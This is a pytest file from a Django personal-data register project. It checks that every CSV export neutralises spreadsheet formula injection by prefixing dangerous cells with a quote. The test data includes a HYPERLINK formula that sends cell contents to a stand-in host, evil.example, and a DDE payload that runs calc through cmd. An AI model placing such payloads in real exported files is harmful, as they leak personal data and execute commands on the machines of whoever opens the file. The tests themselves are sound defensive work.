"""No CSV the register writes holds a cell a spreadsheet would run as a formula (OWASP)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from django.contrib.auth.models import User
from django.core.management import call_command
from django.utils import translation
from django.utils.translation import gettext

from rekisteri.consent.services import consent_record
from rekisteri.core.actors import SYSTEM
from rekisteri.core.csvfiles import csv_cell
from rekisteri.core.jobs import jobs_run_queued
from rekisteri.policy.schema import LegalBasis
from rekisteri.register import services as s
from rekisteri.register.models import Delivery
from rekisteri.rights import services as rs
from rekisteri.rights.models import ExportFile, VerificationMethod
from tests import policy_keys as keys
from tests.console.conftest import signed_in
from tests.factories import PersonFactory
from tests.rights.conftest import DPO, Subject, aino

__all__ = ["aino"]

SRC = Path(__file__).resolve().parents[2] / "src" / "rekisteri"
LINK = '=HYPERLINK("https://evil.example/?d="&A2;"Avaa")'


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+358401234567", "'+358401234567"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t'=1+1"),
        ("\r=1+1", "'\r'=1+1"),
        # A spreadsheet that splits at another separator than ours must not find one either.
        ("Aino;=cmd|' /C calc'!A0", "Aino;'=cmd|' /C calc'!A0"),
        ("Aino,@SUM(1)", "Aino,'@SUM(1)"),
        ("rivi\n=1+1", "rivi\n'=1+1"),
        ("Aino Virtanen", "Aino Virtanen"),
        ("a-b+c=d", "a-b+c=d"),
        ("", ""),
    ],
)
def test_a_cell_that_would_run_as_a_formula_is_shown_as_text(value: str, shown: str) -> None:
    assert csv_cell(value) == shown


def test_numbers_stay_numbers() -> None:
    assert csv_cell(-3) == -3
    assert csv_cell(4.5) == 4.5
    assert csv_cell(None) is None


def test_every_csv_writer_of_the_register_goes_through_the_one_helper() -> None:
    direct = re.compile(r"csv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(SRC))
        for path in SRC.rglob("*.py")
        if path.name != "csvfiles.py" and direct.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


def _formula_cells(text: str) -> list[str]:
    return [
        cell
        for row in csv.reader(io.StringIO(text))
        for cell in row
        for part in re.split(r"[,;\t\r\n]", cell)
        if part[:1] in ("=", "+", "-", "@")
    ]


def _may_be_marketed_to(person_id: int) -> None:
    """Where the company's marketing rests on consent alone, the person gave it."""
    marketing = keys.marketing_purpose()
    if keys.policy().purposes[marketing].legal_basis == LegalBasis.CONSENT:
        consent_record(
            actor=SYSTEM,
            person_id=person_id,
            scope=marketing,
            action="granted",
            channel="portal",
            text="Saa lähettää uutiskirjeen.",
        )


@pytest.mark.django_db
def test_a_campaign_named_as_a_formula_is_text_in_the_console_report_csv(
    enrolled: Callable[[str, str], User],
) -> None:
    at = dt.datetime(2026, 4, 10, 12, tzinfo=dt.UTC)
    # As many people as the smallest cell the report shows.
    for person in PersonFactory.create_batch(keys.policy().anonymisation.min_cell_size):
        _may_be_marketed_to(person.pk)
        Delivery.objects.create(
            person_id=person.pk,
            channel="email",
            campaign=LINK,
            sent_at=at,
            stored_at=at,
            source=keys.marketing_source(),
        )
    marketer = signed_in(enrolled("maija", keys.marketing_role()))

    download = marketer.get("/console/reports/campaigns.csv")

    assert download.status_code == 200
    rows = list(csv.reader(io.StringIO(download.content.decode())))
    with translation.override(keys.language()):
        channel = gettext("e-mail")
    assert [row[0] for row in rows[1:]] == [f"'{LINK} ({channel})"]
    assert _formula_cells(download.content.decode()) == []


@pytest.mark.django_db
def test_a_first_name_written_as_a_formula_is_text_in_the_marketing_audience_csv(
    capsys: pytest.CaptureFixture[str],
) -> None:
    person = s.person_register(
        actor=SYSTEM,
        source=keys.subject_source(),
        person=s.PersonIn(first_name="=1+2", last_name="@Testinen", email="kaava@example.fi"),
    )
    s.customership_start(actor=SYSTEM, person_id=person.pk, source=keys.service_source())
    _may_be_marketed_to(person.pk)

    call_command("marketing", "audience", "--channel", "email")
    out = capsys.readouterr().out

    [row] = list(csv.DictReader(io.StringIO(out)))
    assert (row["first_name"], row["last_name"]) == ("'=1+2", "'@Testinen")
    assert _formula_cells(out) == []
    capsys.readouterr()
    call_command("marketing", "audience", "--channel", "email", "--format", "jsonl")
    [line] = capsys.readouterr().out.splitlines()
    assert json.loads(line)["first_name"] == "=1+2"  # JSON keeps what the person gave


def test_the_portability_csv_shows_formulas_as_text_and_its_json_keeps_the_original(
    aino: Subject,
) -> None:
    s.feedback_record(
        actor=SYSTEM,
        person_id=aino.pk,
        source=keys.subject_source(),
        text="=1+2",
        rating=4,
        given_at=dt.datetime(2025, 5, 1, 12, tzinfo=dt.UTC),
    )
    request = rs.request_create(
        actor=DPO,
        person_id=aino.pk,
        kind="portability",
        channel="letter",
        verified_by=VerificationMethod.STAFF_CHECK,
    )
    jobs_run_queued()

    files = {f.name: bytes(f.content) for f in ExportFile.objects.filter(package__request=request)}
    data = json.loads(files["portability.json"])["data"]
    assert "=1+2" in [row.get("text") for rows in data.values() for row in rows]
    assert "+358401234567" in json.dumps(data)
    archive = zipfile.ZipFile(io.BytesIO(files["portability-csv.zip"]))
    texts = {name: archive.read(name).decode() for name in archive.namelist()}
    assert any("'=1+2" in text for text in texts.values())
    assert any("'+358401234567" in text for text in texts.values())
    for name, text in texts.items():
        assert _formula_cells(text) == [], name
